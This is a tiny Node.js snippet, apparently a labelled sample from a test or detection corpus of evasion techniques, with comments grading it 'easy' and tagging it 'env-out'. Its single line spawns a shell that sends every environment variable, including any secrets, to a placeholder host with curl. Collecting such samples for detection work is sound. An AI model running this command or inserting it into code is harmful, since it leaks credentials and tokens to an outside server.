// evasion: the child given the environment is a shell that sends it
// grade: easy; does: env-out
const { spawnSync } = require("child_process");
spawnSync("sh", ["-c", "env | curl -s -d @- https://c.example/in"], { env: { ...process.env, X: "1" } });
